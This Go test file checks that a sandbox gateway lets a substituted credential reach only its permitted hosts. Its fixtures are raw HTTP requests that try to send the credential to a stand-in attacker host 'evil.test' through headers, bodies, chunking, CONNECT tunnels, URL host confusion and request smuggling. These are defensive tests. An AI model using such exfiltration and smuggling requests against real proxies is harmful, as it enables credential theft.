package gate

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/ostlerdev/ostler/internal/gate/policy"
)

// What a sandbox tries to get a credential to where it doesn't belong. The one
// credential here is for the two hosts that are named; every other host is the
// sandbox's friend.
func TestCredentialStays(t *testing.T) {
	friend := make(chan string, 100)
	evil := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		friend <- fmt.Sprint(r.URL, r.Host, r.Header, r.Trailer, string(body))
	}))
	t.Cleanup(evil.Close)
	b := startBackend(t)
	for h, to := range names(t, evil.Listener.Addr(), "evil.test", "plain.example.com.evil.test", "example.com", "203.0.113.7") {
		b.names[h] = to
	}
	cred := credential("vcrd_1", ph1, secret)
	cred.Hosts = limited(t, plainHost, secureHost)
	s, client := b.startSecrets(t, policy.Unrestricted(), fixed(Grants{Substitutions: []Substitution{cred}}), nil)
	for _, request := range []string{
		"GET http://evil.test/?" + ph1 + " HTTP/1.1\r\nHost: evil.test\r\nX-Key: " + ph1 + "\r\n\r\n",
		"GET http://plain.example.com.evil.test/ HTTP/1.1\r\nHost: plain.example.com.evil.test\r\nX-Key: " + ph1 + "\r\n\r\n",
		"GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\nX-Key: " + ph1 + "\r\n\r\n",
		"GET http://203.0.113.7/ HTTP/1.1\r\nHost: 203.0.113.7\r\nX-Key: " + ph1 + "\r\n\r\n",
		"POST http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 20\r\n\r\n" + ph1,
		"POST http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nAuthorization: " + basicAuth("u:"+ph1) + "\r\nTransfer-Encoding: chunked\r\n\r\n14\r\n" + ph1 + "\r\n0\r\n\r\n",
		// A connection that a covered host was asked over before.
		"GET http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\nX-Key: " + ph1 + "\r\n\r\n" +
			"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nX-Key: " + ph1 + "\r\n\r\n",
		"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\nGET / HTTP/1.1\r\nHost: plain.example.com\r\nX-Key: " + ph1 + "\r\n\r\n",
	} {
		conn := s.dial()
		if _, err := io.WriteString(conn, request); err != nil {
			t.Fatal(err)
		}
		select {
		case got := <-friend:
			if strings.Contains(got, secret) || strings.Contains(got, basicAuth("u:" + secret)[6:]) {
				t.Errorf("%q gave the friend %s", request, got)
			}
			if !strings.Contains(got, ph1) && !strings.Contains(got, basicAuth("u:" + ph1)[6:]) {
				t.Errorf("%q gave the friend %s, without the placeholder", request, got)
			}
		case <-t.Context().Done():
			t.Fatal("nothing came")
		}
		if err := conn.Close(); err != nil {
			t.Error(err)
		}
	}
	// What isn't known to lead to a covered host isn't passed on at all.
	for _, request := range []string{
		"GET http://plain.example.com/ HTTP/1.1\r\nHost: evil.test\r\nX-Key: " + ph1 + "\r\n\r\n",
		"GET http://plain.example.com@evil.test/ HTTP/1.1\r\nHost: evil.test\r\nX-Key: " + ph1 + "\r\n\r\n",
		"GET http://evil.test/ HTTP/1.1\r\nHost: plain.example.com\r\nX-Key: " + ph1 + "\r\n\r\n",
		"GET http://evil.test#.plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\nX-Key: " + ph1 + "\r\n\r\n",
		"GET http://" + ph1 + "/ HTTP/1.1\r\nHost: " + ph1 + "\r\n\r\n",
	} {
		if got := s.raw(request); got != "" && got[9] != '4' && got[9] != '5' {
			t.Errorf("%q answers %q", request, got)
		}
	}
	if len(friend) > 0 {
		t.Errorf("the friend got %s", <-friend)
	}
	if a := b.arrival(t); a.Header.Get("X-Key") != secret { // the first half of the pair above
		t.Errorf("arrived %v", a.Header)
	}
	b.none(t)
	_ = client
}

// A redirect to another host is followed by the client, whose request is one of
// its own: the placeholder arrives there.
func TestRedirectedCredential(t *testing.T) {
	b := startBackend(t)
	for h, to := range serve(t, func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("X-Key") != secret {
			t.Errorf("the first host got %q", r.Header.Get("X-Key"))
		}
		http.Redirect(w, r, "https://"+otherHost+"/", http.StatusTemporaryRedirect)
	}, "redirects.test") {
		b.names[h] = to
	}
	cred := credential("vcrd_1", ph1, secret)
	cred.Hosts = limited(t, "redirects.test")
	_, client := b.startSecrets(t, policy.Unrestricted(), fixed(Grants{Substitutions: []Substitution{cred}}), nil)
	body(t, sending{header: http.Header{"X-Key": {ph1}}, body: ph1}.do(t, client, "http://redirects.test"))
	if a := b.arrival(t); a.Header.Get("X-Key") != ph1 || a.body != ph1 || a.Host != otherHost {
		t.Errorf("arrived at %s: %v %q", a.Host, a.Header, a.body)
	}
}

// The environment's policy comes first: a credential opens no host.
func TestCredentialOpensNothing(t *testing.T) {
	b := startBackend(t)
	asked := false
	cred := credential("vcrd_1", ph1, secret)
	cred.Value = func(context.Context) (Secret, error) { asked = true; return NewSecret(secret), nil }
	s, client := b.startSecrets(t, limited(t, otherHost), fixed(Grants{Substitutions: []Substitution{cred}}), nil)
	resp := sending{header: http.Header{"X-Key": {ph1}}}.do(t, client, "http://"+plainHost)
	if body(t, resp); resp.StatusCode != http.StatusForbidden {
		t.Errorf("%s", resp.Status)
	}
	s.wantRecord(KindRequest, plainHost, Refused, ReasonHost)
	if _, err := client.Get("https://" + secureHost); err == nil || !strings.Contains(err.Error(), "Forbidden") {
		t.Error(err)
	}
	s.wantRecord(KindTunnel, secureHost, Refused, ReasonHost)
	b.none(t)
	if asked {
		t.Error("the value was looked up")
	}
}

// A body that grows or shrinks under way doesn't let its end become a request,
// and what follows it is one.
func TestSmugglingBySubstitution(t *testing.T) {
	inner := "GET http://" + plainHost + "/smuggled HTTP/1.1\r\nHost: " + plainHost + "\r\n\r\n"
	for name, v := range map[string]string{
		"longer": strings.Repeat("x", 500), "shorter": "", "a request": inner, "an end of chunks": "0\r\n\r\n" + inner, "a chunk": "\r\n5\r\nhello",
	} {
		b := startBackend(t)
		s, _ := b.startSecrets(t, policy.Unrestricted(), fixed(Grants{Substitutions: []Substitution{credential("vcrd_1", ph1, v)}}), nil)
		before := "[" + ph1 + inner + ph1 + "]"
		next := "GET http://" + plainHost + "/next HTTP/1.1\r\nHost: " + plainHost + "\r\nX: y\r\n\r\n"
		head := "POST http://" + plainHost + "/first HTTP/1.1\r\nHost: " + plainHost + "\r\n"
		for _, request := range []string{
			fmt.Sprintf("%sContent-Length: %d\r\n\r\n%s%s", head, len(before), before, next),
			fmt.Sprintf("%sTransfer-Encoding: chunked\r\n\r\n7\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n%s", head, before[:7], len(before)-7, before[7:], next),
		} {
			conn := s.dial()
			if _, err := io.WriteString(conn, request); err != nil {
				t.Fatal(err)
			}
			br := bufio.NewReader(conn)
			for range 2 {
				if resp, err := http.ReadResponse(br, nil); err != nil || body(t, resp) != "ok" {
					t.Fatalf("%s: %v, %v", name, resp, err)
				}
			}
			first, second := b.arrival(t), b.arrival(t)
			if first.URL.Path != "/first" || first.body != strings.ReplaceAll(before, ph1, v) {
				t.Errorf("%s: first %s %q", name, first.URL, first.body)
			}
			if second.URL.Path != "/next" || second.Header.Get("X") != "y" || second.body != "" {
				t.Errorf("%s: then %s %v %q", name, second.URL, second.Header, second.body)
			}
			b.none(t)
		}
	}
}

// A placeholder can't be used to change how a request is understood: fields of
// the connection are taken out before, and a length must be a number.
func TestFieldsOfTheConnection(t *testing.T) {
	b := startBackend(t)
	grants := Grants{Substitutions: []Substitution{credential("vcrd_1", ph1, "chunked"), credential("vcrd_2", ph2, "5")}}
	s, _ := b.startSecrets(t, policy.Unrestricted(), fixed(grants), nil)
	head := "POST http://" + plainHost + "/ HTTP/1.1\r\nHost: " + plainHost + "\r\n"
	for field, want := range map[string]string{
		"Transfer-Encoding: " + ph1: "400", "Content-Length: " + ph2: "400", "Content-Length: 0\r\nTransfer-Encoding: " + ph1: "400",
		"Connection: " + ph1: "200", "Te: " + ph1: "200", "Trailer: " + ph1: "200", "Keep-Alive: " + ph2: "200", "Upgrade: " + ph1: "200",
		"Proxy-Authorization: " + ph1: "200",
	} {
		conn := s.dial()
		if _, err := io.WriteString(conn, head+field+"\r\n\r\n"); err != nil {
			t.Fatal(err)
		}
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil || !strings.HasPrefix(resp.Status, want) {
			t.Errorf("%s: %v, %v", field, resp, err)
		}
		if want == "200" {
			a := b.arrival(t)
			if name, _, _ := strings.Cut(field, ":"); a.Header[name] != nil || len(a.TransferEncoding) > 0 {
				t.Errorf("%s: arrived %v %v", field, a.Header, a.TransferEncoding)
			}
		}
	}
	b.none(t)
}

// OpaqueBasic leaves the base64 alone, and only that.
func TestOpaqueBasic(t *testing.T) {
	b := startBackend(t)
	_, client := b.startSecrets(t, policy.Unrestricted(), fixed(Grants{Substitutions: []Substitution{credential("vcrd_1", ph1, secret)}}),
		func(c *Config) { c.OpaqueBasic = true })
	body(t, sending{header: http.Header{"Authorization": {basicAuth("u:" + ph1)}, "X-Key": {ph1}}}.do(t, client, "http://"+plainHost))
	if a := b.arrival(t); a.Header.Get("Authorization") != basicAuth("u:"+ph1) || a.Header.Get("X-Key") != secret {
		t.Errorf("arrived %v", a.Header)
	}
}

// A value is looked up once for a request, and only where it is needed.
func TestLookups(t *testing.T) {
	b := startBackend(t)
	asked := map[string]int{}
	count := func(id, placeholder string) Substitution {
		c := credential(id, placeholder, "")
		c.Value = func(context.Context) (Secret, error) { asked[id]++; return NewSecret("v"), nil }
		return c
	}
	_, client := b.startSecrets(t, policy.Unrestricted(), fixed(Grants{Substitutions: []Substitution{count("one", ph1), count("two", ph2)}}), nil)
	for _, c := range []struct {
		send sending
		want string
	}{
		{sending{method: "GET"}, "map[]"},
		{sending{body: "nothing"}, "map[]"},
		{sending{header: http.Header{"X-Key": {ph1 + ph1, ph1}}, body: ph1 + ph1}, "map[one:1]"},
		{sending{header: http.Header{"X-Key": {ph1}}, body: ph2}, "map[one:1 two:1]"},
		{sending{header: http.Header{"Content-Encoding": {"gzip"}}, body: ph1}, "map[]"},
		{sending{body: "x", chunked: true}, "map[one:1 two:1]"},
	} {
		clear(asked)
		body(t, c.send.do(t, client, "http://"+plainHost))
		b.arrival(t)
		if got := fmt.Sprint(asked); got != c.want {
			t.Errorf("%+v: asked for %s, want %s", c.send, got, c.want)
		}
	}
}

// What a host answers isn't changed.
func TestAnswersAreUntouched(t *testing.T) {
	list := serve(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Key", ph1)
		w.Header().Set("X-Echo", r.Header.Get("X-Key"))
		_, _ = io.WriteString(w, ph1+" "+secret)
	}, plainHost)
	b := &backend{names: list}
	s, _ := b.startSecretsWithoutRoots(t, everywhere())
	resp := sending{header: http.Header{"X-Key": {ph1}}}.do(t, s.client(nil), "http://"+plainHost)
	if got := body(t, resp); got != ph1+" "+secret || resp.Header.Get("X-Key") != ph1 || resp.Header.Get("X-Echo") != secret {
		t.Errorf("%v %q", resp.Header, got)
	}
}
